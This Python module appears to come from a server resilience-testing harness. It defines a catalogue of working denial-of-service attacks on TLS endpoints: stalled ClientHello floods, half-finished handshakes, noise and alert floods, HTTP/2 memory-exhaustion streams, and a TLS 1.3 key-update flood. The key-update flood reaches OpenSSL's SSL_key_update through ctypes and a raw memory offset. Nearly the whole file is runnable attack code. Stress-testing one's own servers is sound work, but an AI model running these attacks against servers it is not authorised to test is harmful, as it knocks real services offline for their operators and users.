"""TLS: what a handshake costs, what a record without data costs, what a connection keeps."""

import _ssl
import asyncio
import ctypes
import ssl
from contextlib import suppress
from typing import Any

from attack.attacker import Attacker
from attack.catalogue import Need, attack
from attack.frames import HELLO, data, headers
from attack.wire import Ended, Wire, any_certificate

UPDATES = 9_000
"""Key updates on one connection, 27 bytes each: as many as one read of the server holds."""


async def hello_again(attacker: Attacker, port: int) -> None:
    """100 connections that ask for a signature each, and never go on."""
    outgoing = ssl.MemoryBIO()
    handshake = any_certificate().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    hello = outgoing.read()

    async def client(wire: Wire) -> None:
        await wire.send(hello)
        await wire.wait()

    await attacker.each(100, client, lambda: attacker.open_raw(port))


@attack(Need.TLS)
async def tls_hello(attacker: Attacker) -> None:
    """100 connections send the same ClientHello again and again, and never go on."""
    await hello_again(attacker, attacker.target.port)


@attack(Need.TLS, Need.DEBUG)
async def debug_hello(attacker: Attacker) -> None:
    """The same to the debug port, with TLS of its own."""
    await hello_again(attacker, attacker.target.debug_port)


@attack(Need.TLS, seconds=4)
async def half_handshakes(attacker: Attacker) -> None:
    """500 connections that begin TLS and stop."""

    async def client(wire: Wire) -> None:
        await wire.send(b"\x16\x03\x01\x02\0\x01\0\1\xfc\3\3")
        await wire.until_closed()

    await attacker.each(500, client, lambda: attacker.open_raw(attacker.target.port))


@attack(Need.TLS)
async def tls_noise(attacker: Attacker) -> None:
    """20 connections at a time that send plain text, alerts and noise to a port of TLS."""
    said = [HELLO, b"GET / HTTP/1.1\r\n\r\n", bytes(range(256)), b"\x15\x03\x03\0\2\2\x28" * 100, b"\x80\x2e\1\3\1"]

    async def client(wire: Wire) -> None:
        await wire.send(attacker.random.choice(said))
        await wire.wait()

    await attacker.each(20, client, lambda: attacker.open_raw(attacker.target.port))


@attack(Need.TLS, seconds=4)
async def tls_memory(attacker: Attacker) -> None:
    """200 connections that send 300 KB in one call, and then stay."""
    block = attacker.block()

    async def client(wire: Wire) -> None:
        number = wire.number()
        await wire.send(headers(number, block) + data(number, b"\0\0\1\x86\xa0", end=False))
        for _ in range(30):
            await wire.spend(data(number, bytes(10_000), end=False), 10_000)
        await wire.until_closed()

    await attacker.each(200, client)


@attack(Need.TLS)
async def tls_key_updates(attacker: Attacker) -> None:
    """TLS 1.3: four connections renew their keys 9,000 times in a row, again and again, and send no data."""
    try:
        update = _key_update()
    except (AttributeError, OSError):
        attacker.note("not tried: this Python's OpenSSL cannot be asked for key updates")
        return
    await asyncio.gather(*(_update_keys(attacker, update) for _ in range(4)))


def _key_update() -> Any:
    """OpenSSL's own function, of the library that Python's ssl has loaded."""
    update = ctypes.CDLL(_ssl.__file__).SSL_key_update
    update.argtypes = (ctypes.c_void_p, ctypes.c_int)
    return update


async def _update_keys(attacker: Attacker, update: Any) -> None:
    while True:
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = any_certificate().wrap_bio(incoming, outgoing, server_hostname="localhost")
        try:
            wire = await attacker.open_raw(attacker.target.port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        try:
            await _shake_hands(wire, tls, incoming, outgoing)
            # The first field of CPython's SSL object, after the socket that it belongs to: its OpenSSL connection.
            connection = ctypes.c_void_p.from_address(id(tls._sslobj) + 24)  # type: ignore[attr-defined]  # noqa: SLF001
            while True:
                for _ in range(UPDATES):
                    if not update(connection, 0):
                        attacker.note("OpenSSL refuses to update its keys")
                        return
                    tls.do_handshake()
                await wire.send(outgoing.read())
        except Ended:
            await asyncio.sleep(0.05)


async def _shake_hands(wire: Wire, tls: ssl.SSLObject, incoming: ssl.MemoryBIO, outgoing: ssl.MemoryBIO) -> None:
    """Through the bytes of a connection that knows nothing of TLS."""
    at = 0
    while True:
        try:
            tls.do_handshake()
        except ssl.SSLWantReadError:
            await wire.send(outgoing.read())
            while len(wire.text) == at:
                await wire.wait()
            incoming.write(wire.text[at:])
            at = len(wire.text)
        else:
            tls.write(HELLO)
            await wire.send(outgoing.read())
            return
